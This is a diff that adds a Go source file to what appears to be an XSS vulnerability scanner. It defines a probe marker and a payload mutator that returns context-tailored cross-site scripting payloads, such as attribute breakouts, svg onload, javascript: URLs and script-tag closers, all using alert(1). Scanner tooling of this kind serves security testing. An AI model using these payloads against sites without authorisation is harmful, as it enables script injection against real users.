@@ -0,0 +1,75 @@
+package scanner
+
+// BenignProbe is a single harmless-looking marker sent once per parameter
+// before any real payload. When it reflects unescaped as raw HTML text or
+// inside script source, DetectContext places it in one request, so a
+// tailored payload set can be run instead of the entire wordlist. Inside an
+// attribute value (quoted, unquoted or URL) the probe's own quote and angle
+// characters end the value early, so DetectContext cannot find it whole
+// there; and AnalyzeResponse classes a reflection inside a style block or
+// comment as escaped. Those parameters are not placed by the probe.
+const BenignProbe = `xsp<>"'`
+
+// PayloadMutator generates a tailored payload set once the reflection
+// context of a parameter is known (typically from a BenignProbe probe),
+// instead of retrying the entire wordlist blindly.
+type PayloadMutator struct{}
+
+// NewPayloadMutator creates a PayloadMutator
+func NewPayloadMutator() *PayloadMutator {
+	return &PayloadMutator{}
+}
+
+// MutationsForContext returns the payloads worth trying for a given
+// reflection context. An empty slice means the context doesn't warrant a
+// second round (e.g. it's already unknown, or the original payload is the
+// best shot).
+func (m *PayloadMutator) MutationsForContext(ctx ReflectionContext) []string {
+	switch ctx {
+	case ContextHTMLAttrDoubleQuoted:
+		return []string{
+			`" onmouseover=alert(1) x="`,
+			`"><svg onload=alert(1)>`,
+			`" autofocus onfocus=alert(1) x="`,
+		}
+	case ContextHTMLAttrSingleQuoted:
+		return []string{
+			`' onmouseover=alert(1) x='`,
+			`'><svg onload=alert(1)>`,
+			`' autofocus onfocus=alert(1) x='`,
+		}
+	case ContextHTMLAttrUnquoted:
+		return []string{
+			` onmouseover=alert(1)`,
+			` autofocus onfocus=alert(1)`,
+		}
+	case ContextScriptStringLiteral:
+		return []string{
+			`";alert(1)//`,
+			`';alert(1)//`,
+			`</script><script>alert(1)</script>`,
+		}
+	case ContextScriptBlock:
+		return []string{
+			`;alert(1)//`,
+			`-alert(1)-`,
+		}
+	case ContextStyleBlock:
+		return []string{
+			`</style><script>alert(1)</script>`,
+		}
+	case ContextURLAttribute:
+		return []string{
+			`javascript:alert(1)`,
+			`javascript:alert(document.domain)`,
+		}
+	case ContextHTMLBody:
+		return []string{
+			`<script>alert(1)</script>`,
+			`<img src=x onerror=alert(1)>`,
+			`<svg onload=alert(1)>`,
+		}
+	default:
+		return nil
+	}
+}